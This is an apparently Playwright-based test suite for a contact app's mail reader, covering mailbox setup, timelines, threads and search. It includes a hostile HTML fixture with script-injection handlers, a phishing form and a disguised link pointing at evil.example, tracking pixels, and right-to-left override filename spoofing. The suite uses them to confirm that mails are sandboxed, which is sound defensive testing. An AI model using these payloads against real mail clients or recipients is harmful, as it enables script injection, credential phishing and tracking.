import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { after, before, test } from 'node:test';
import { api, base, create, pages, toast } from './kit.mjs';
import { letter, named, startMailbox } from './mailbox.mjs';
import { accessible } from './places.mjs';

const open = pages();
const me = 'ines@harbor.example';
const anna = named('Anna Berg', 'anna@berg.example');
const dot = Buffer.from('R0lGODlhAQABAIAAAP8AAP///yH5BAAAAAAALAAAAAABAAEAAAICRAEAOw==', 'base64');
const day = (n, hour = 9) => Date.UTC(2026, 5, n, hour);

const evil = `<html><head><title>x</title><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><link rel="stylesheet" href="https://evil.example/s.css">
<style>@import url(https://evil.example/i.css); body { position: fixed; inset: 0; background: url(https://evil.example/b.png) }</style></head>
<body onload="top.pwned = 1"><script>top.pwned = 2</script><img src="x" onerror="top.pwned = 3">
<svg onload="top.pwned = 4"><script>top.pwned = 5</script></svg><iframe srcdoc="<script>top.pwned=6</script>"></iframe>
<form action="https://evil.example/form"><input name="password"><button>Sign in</button></form>
<a href="javascript:top.pwned=7">Click me</a> <a href="https://evil.example/login">https://bank.example/login</a>
<div style="position:fixed;top:0;left:0;width:4000px;height:4000px;z-index:99999;background:red">Cover</div>
<img src="https://evil.example/pixel.gif" width="1" height="1"><table width="4000"><tr><td>A very wide table</td></tr></table>
<object data="https://evil.example/o"></object><video src="https://evil.example/v" autoplay></video><p>The end of it.</p></body></html>`;

const letters = [
  letter({
    from: me,
    to: anna,
    subject: 'Offer for pallets',
    at: day(1),
    id: 'offer',
    text: 'Dear Anna,\n\nour offer is attached.',
  }),
  letter({
    from: anna,
    to: me,
    subject: 'Re: Offer for pallets',
    at: day(2),
    id: 'answer',
    answers: 'offer',
    text: 'Thank you, we take twelve. See https://berg.example/dock.\n\nOn Monday Ines wrote:\n> Dear Anna,\n>\n> our offer is attached.\n\n-- \nAnna Berg',
  }),
  letter({
    from: named('Anna (private)', 'anna@home.example'),
    to: me,
    subject: 'Re: Offer for pallets',
    at: day(3),
    id: 'private',
    answers: 'offer',
    text: 'Make it fifteen. I write from home.',
  }),
  letter({
    from: anna,
    to: `${me}, ${named('Olaf Lind', 'olaf@berg.example')}`,
    subject: 'Plan of the dock',
    at: day(4),
    id: 'plan',
    text: 'The plan is attached.',
    html: `<p>The <b>plan</b> is attached. <a href="https://berg.example/dock">Our dock</a></p>
      <p><img src="cid:logo" alt="Berg"><img src="https://pictures.example/a.png" alt="Dock"><img src="https://pictures.example/b.png"></p>`,
    pictures: [{ type: 'image/gif', content: dot, id: 'logo' }],
    files: [
      { type: 'application/pdf', content: '%PDF-1.4 plan', name: 'Plan 4.pdf' },
      { type: 'application/octet-stream', content: 'MZ', name: 'invoice\u202Efdp.exe' },
    ],
  }),
  letter({ from: anna, to: me, subject: 'Hostile', at: day(5), id: 'evil', text: 'x', html: evil }),
  letter({
    from: named('\u202Egreb anna', 'anna@berg.example'),
    to: me,
    subject: 'Endless '.repeat(250).trim(),
    at: day(6),
    id: 'endless',
    text: 'Short.',
  }),
  letter({
    from: named('Berg Logistics', 'info@berg.example'),
    to: me,
    subject: 'News from the quay',
    at: day(7),
    id: 'news',
    more: ['Precedence: bulk', 'List-Id: <news.berg.example>'],
    text: 'Spring news.',
  }),
  letter({
    from: 'nobody@stranger.example',
    to: me,
    subject: 'Who are you',
    at: day(8),
    id: 'stranger',
    text: 'Hello.',
  }),
];

let mailbox;
let company;
let person;

before(async () => {
  company = await create('company', { name: 'Berg Logistics', emails: [{ type: 'work', value: 'info@berg.example' }] });
  person = await create('person', {
    name: 'Anna Berg',
    emails: [{ type: 'work', value: 'anna@berg.example' }],
    roles: [{ company: company.id, role: 'Buyer' }],
  });
  mailbox = await startMailbox(letters);
});
after(() => mailbox.stop());

const entry = (page, subject) =>
  page.getByRole('listitem').filter({ has: page.getByRole('button', { name: subject }) });
const mails = async () => (await api('GET', '/mails')).rows;
const mailNamed = async (subject) => (await mails()).find((m) => m.subject === subject);

/** Everything that left for another place than Kontor. */
function watch(page) {
  const left = [];
  page.on('request', (request) => {
    if (!request.url().startsWith(base) && !/^(data|blob|about):/.test(request.url())) left.push(request.url());
  });
  return left;
}

test('a mailbox is added by its owner, and a wrong password loses nothing', async () => {
  const page = await open('/mail');
  await page.getByRole('heading', { name: 'No mailbox yet' }).waitFor();
  await page.getByText('Kontor only reads.').waitFor();
  await page.keyboard.press('c');
  const dialog = page.getByRole('dialog', { name: 'Add mailbox' });
  await dialog.getByLabel('Mail address').fill(me);
  assert.equal(await dialog.getByLabel('Mail server (IMAP)').inputValue(), 'imap.harbor.example');
  await dialog.getByText('Our proposal from the address.').waitFor();
  await dialog.getByLabel('Mail server (IMAP)').fill(mailbox.host);
  await dialog.getByLabel('Port').fill(String(mailbox.port));
  await dialog.getByRole('textbox', { name: 'Password' }).fill('wrong');
  await dialog.getByRole('button', { name: 'User name or certificate differ' }).click();
  await dialog.getByLabel('User name').fill(mailbox.user);
  await page.keyboard.press('Control+Enter');
  await dialog.getByRole('alert').filter({ hasText: 'not from a known authority' }).waitFor();

  const chosen = page.waitForEvent('filechooser');
  await dialog.getByRole('button', { name: 'Choose certificate file' }).click();
  await (await chosen).setFiles({ name: 'ca.pem', mimeType: 'text/plain', buffer: Buffer.from(mailbox.ca) });
  await page.waitForFunction(() => document.querySelector('textarea')?.value.includes('BEGIN CERTIFICATE'));
  await page.keyboard.press('Control+Enter');
  await dialog.getByText('does not accept the password of').waitFor();
  assert.equal(await dialog.getByRole('textbox', { name: 'Password' }).getAttribute('aria-invalid'), 'true');
  assert.equal(await dialog.getByLabel('Mail address').inputValue(), me);
  assert.equal(await dialog.getByLabel('User name').inputValue(), mailbox.user);
  assert.equal(await page.getByRole('heading', { name: 'This is Kontor' }).count(), 0);

  await dialog.getByRole('textbox', { name: 'Password' }).fill(mailbox.password);
  await page.keyboard.press('Control+Enter');
  await dialog.waitFor({ state: 'hidden' });
  const card = page.getByRole('region', { name: me });
  await card.getByText('Last read').waitFor();
  const inbox = card.getByRole('row').filter({ has: page.getByRole('rowheader', { name: 'INBOX' }) });
  assert.equal((await inbox.locator('td').allTextContents()).join(), '8,7,1,0,0');
  await card.getByText('nobody you know takes part').waitFor();
  const { accounts } = await api('GET', '/mail/status');
  await card
    .getByText(
      accounts[0].password === 'file' ? 'There is no key ring on this computer' : 'kept in this computer’s key ring',
    )
    .waitFor();
  assert.deepEqual(page.faults, []);
});

test('mails stand in the timelines of the person and of the company, and the mail speaks', async () => {
  const page = await open(`/person/${person.id}`);
  await entry(page, 'Plan of the dock').getByText('Anna Berg wrote').waitFor();
  await entry(page, 'Plan of the dock').getByText('2 files').waitFor({ state: 'attached' });
  await entry(page, /^Offer for pallets/)
    .getByText('Sent to Anna Berg')
    .waitFor();
  // Control characters cannot turn a name round, and a subject of 2,000 letters does not push the rest away.
  await entry(page, /^Endless/)
    .getByText('greb anna wrote')
    .waitFor();
  assert.ok((await entry(page, /^Endless/).boundingBox()).height < 150);

  await page.goto(`${base}/#/company/${company.id}`);
  await entry(page, 'News from the quay').getByText('to many', { exact: true }).waitFor();
  await entry(page, 'Plan of the dock').getByText('Anna Berg wrote').waitFor();
  await page.getByRole('radiogroup', { name: 'Which entries' }).getByText('Mails').click();
  await entry(page, 'News from the quay').waitFor();
  assert.equal(await page.getByRole('button', { name: /new mail/i }).count(), 0);
  assert.deepEqual(page.faults, []);
});

test('a mail is read in place, without network, and its pictures come on request only', async () => {
  const page = await open(`/person/${person.id}`);
  const left = watch(page);
  const asked = [];
  page.on('request', (r) => r.url().includes('remote=true') && asked.push(r.url()));
  const plan = entry(page, 'Plan of the dock');
  await plan.getByRole('button', { name: 'Plan of the dock' }).press('Enter');
  const paper = plan.frameLocator('iframe');
  await paper.getByText('plan', { exact: true }).waitFor();
  await plan.getByText('2 pictures from the network were held back.').waitFor();
  const inline = await paper
    .locator('img')
    .first()
    .evaluate((img) => img.naturalWidth);
  assert.equal(inline, 1, 'the picture of its own stands in the mail');
  assert.deepEqual([left, asked], [[], []]);

  const link = plan.getByRole('link', { name: 'Our dock' });
  await link.hover();
  await plan.getByText('https://berg.example/dock', { exact: true }).waitFor();
  await page.context().route('https://berg.example/**', (route) => route.fulfill({ body: 'the dock' }));
  const popup = page.waitForEvent('popup');
  await link.click();
  assert.equal((await popup).url(), 'https://berg.example/dock');
  assert.match(page.url(), /person/);

  await plan.getByRole('button', { name: 'Load pictures' }).click();
  await plan.getByText('2 pictures could not be loaded.').waitFor();
  assert.equal(asked.length, 1);
  assert.deepEqual(left, [], 'pictures are fetched by Kontor, never by the browser');

  await plan.getByText('invoicefdp.exe').waitFor();
  await plan.getByText('Such files can run programs.').waitFor();
  const download = page.waitForEvent('download');
  await plan.getByRole('button', { name: 'Save Plan 4.pdf' }).click();
  const saved = await download;
  assert.equal(saved.suggestedFilename(), 'Plan 4.pdf');
  assert.equal(readFileSync(await saved.path(), 'utf8'), '%PDF-1.4 plan');

  await page.keyboard.press('Escape');
  await plan.locator('iframe').waitFor({ state: 'detached' });
  assert.match(page.url(), /person/);
  assert.deepEqual(page.faults, []);
});

test('a hostile mail runs nothing, loads nothing and stays on its paper', async () => {
  const { id } = await mailNamed('Hostile');
  const page = await open('/company');
  const left = watch(page);
  await page.goto(`${base}/#/mail/${id}`);
  const paper = page.frameLocator('iframe');
  await paper.getByText('The end of it.').waitFor();
  await page
    .getByText('picture from the network was held back')
    .or(page.getByText('pictures from the network were held back'))
    .waitFor();
  assert.equal(await page.evaluate(() => window.pwned), undefined);
  assert.equal(
    await paper.locator('script, form, input, button, iframe, svg, style ~ style, object, video, base').count(),
    0,
  );
  assert.equal(await paper.locator('[onerror], [onload], a[href]').count(), 0);
  const frame = page.locator('iframe');
  assert.equal(await frame.getAttribute('sandbox'), 'allow-same-origin');
  const [box, main] = [await frame.locator('xpath=../..').boundingBox(), await page.locator('#page').boundingBox()];
  assert.ok(box.x >= main.x && box.x + box.width <= main.x + main.width, 'it scrolls within its own place');
  assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth));

  // A link that names one place and leads to another says so first.
  await page.getByRole('link', { name: 'https://bank.example/login' }).click();
  const dialog = page.getByRole('dialog', { name: 'This link leads elsewhere' });
  await dialog.getByText('It leads to evil.example.').waitFor();
  await dialog.getByRole('button', { name: 'Cancel' }).click();
  await page.getByRole('button', { name: 'Show as plain text' }).click();
  await page.getByText('x', { exact: true }).waitFor();
  assert.deepEqual(left, []);
  assert.deepEqual(page.faults, []);
});

test('a conversation is read from mail to mail, and a mail says why it is here', async () => {
  const { id } = await mailNamed('Re: Offer for pallets');
  const page = await open(`/person/${person.id}`);
  await page.goto(`${base}/#/mail/${id}`);
  const thread = page.getByRole('navigation', { name: 'Conversation' });
  const current = (name) => thread.getByRole('button', { name }).and(page.locator('[aria-current]'));
  await thread.getByRole('button').first().click();
  await current(/Sent to Anna Berg/).waitFor();
  await page.locator('body').press('j');
  await current(/^Anna Berg/).waitFor();
  await page.getByRole('article').getByText('Thank you, we take twelve.').waitFor();
  assert.equal(await page.getByText('> Dear Anna,').isVisible(), false);
  await page.getByText('3 quoted lines').click();
  await page.getByText('> Dear Anna,').waitFor();
  await page.locator('body').press('j');
  await page.getByRole('article').getByText('I write from home.').waitFor();
  await page.getByText('Why is this here?').click();
  await page.getByText('Anna Berg: anna@home.example answered a mail that went to this contact.').waitFor();
  await page.locator('body').press('Escape');
  await page.getByRole('heading', { level: 1, name: 'Anna Berg' }).waitFor();
  assert.deepEqual(page.faults, []);
});

test('a mail that does not belong is taken away, a private one forgets its text, a deleted one comes back', async () => {
  const page = await open(`/person/${person.id}`);
  const hostile = entry(page, 'Hostile');
  await hostile.getByRole('button', { name: 'Hostile' }).click();
  await hostile.getByText('Why is this here?').click();
  await hostile.getByRole('button', { name: 'Does not belong here' }).click();
  const dialog = page.getByRole('dialog', { name: 'Take this mail away from Anna Berg?' });
  await dialog.getByText('this cannot be undone').waitFor();
  await dialog.getByRole('button', { name: 'Take it away' }).click();
  await hostile.waitFor({ state: 'detached' });

  const endless = entry(page, /^Endless/);
  await endless.getByRole('button', { name: 'More for this mail' }).click();
  await page.getByRole('menuitem', { name: 'Move to bin' }).click();
  await endless.waitFor({ state: 'detached' });
  await page.getByRole('button', { name: 'Undo' }).click();
  await endless.waitFor();
  await endless.getByRole('button', { name: 'More for this mail' }).click();
  await page.getByRole('menuitem', { name: 'Make private…' }).click();
  await page.getByRole('dialog').getByRole('button', { name: 'Make private' }).click();
  await endless.waitFor({ state: 'detached' });
  const hidden = (await mails()).find((m) => m.private === true);
  assert.equal(hidden.text ?? null, null);
  assert.deepEqual(page.faults, []);
});

test('search finds a mail, which opens to be read and is saved as its source', async () => {
  const page = await open('/company');
  await page.getByRole('grid').waitFor();
  await page.keyboard.press('Control+k');
  await page.getByRole('combobox', { name: 'Search or run a command' }).fill('fifteen');
  await page.getByRole('option', { name: /Re: Offer for pallets/ }).click();
  await page.getByRole('article').getByText('I write from home.').waitFor();
  await page.getByRole('button', { name: 'More for this mail' }).click();
  const download = page.waitForEvent('download');
  await page.getByRole('menuitem', { name: 'Save as .eml' }).click();
  assert.equal((await download).suggestedFilename(), 'Re Offer for pallets.eml');
  assert.deepEqual(page.faults, []);
});

accessible(open, [
  ['mail accounts', () => '/mail', (page) => mailbox && page.getByText('Last read').waitFor()],
  [
    'an open mail',
    () => `/person/${person.id}`,
    async (page) => {
      if (!mailbox) return;
      await page.getByRole('button', { name: 'Plan of the dock' }).click();
      await page.getByText('held back').waitFor();
      await page.getByText('Why is this here?').click();
    },
    [1440, 900],
  ],
]);

test('a new password is asked for where it is refused, and a removed mailbox leaves its mails', async () => {
  const page = await open('/mail');
  const card = page.getByRole('region', { name: me });
  await api('POST', '/mail/sync', { address: me, password: 'changed meanwhile' });
  await page.reload();
  await card.getByRole('alert').filter({ hasText: 'does not accept the password' }).waitFor();
  const field = card.getByRole('textbox', { name: `Password of ${me}` });
  await field.fill('still wrong');
  await field.press('Enter');
  await card.getByText('does not accept the password').nth(1).waitFor();
  assert.equal(await page.getByRole('heading', { name: 'This is Kontor' }).count(), 0);
  await field.fill(mailbox.password);
  await field.press('Enter');
  await field.waitFor({ state: 'detached' });
  await card.getByText('Last read').waitFor();

  await mailbox.deliver(letter({ from: anna, to: me, subject: 'One more', at: day(9), id: 'more', text: 'Sixteen.' }));
  await card.getByRole('button', { name: 'Sync now' }).click();
  await card.getByRole('row', { name: /^INBOX 9/ }).waitFor();

  const before = (await mails()).length;
  await card.getByRole('button', { name: `More for ${me}` }).click();
  await page.getByRole('menuitem', { name: 'Remove mailbox' }).click();
  const dialog = page.getByRole('dialog', { name: `Remove ${me}?` });
  await dialog.getByText('Mails that stand in histories stay there.').waitFor();
  await dialog.getByRole('button', { name: 'Remove mailbox' }).click();
  await toast(page, 'is removed').waitFor();
  await page.getByRole('heading', { name: 'No mailbox yet' }).waitFor();
  assert.equal((await mails()).length, before);
  await page.goto(`${base}/#/person/${person.id}`);
  await entry(page, 'One more').waitFor();
  assert.deepEqual(page.faults, []);
});
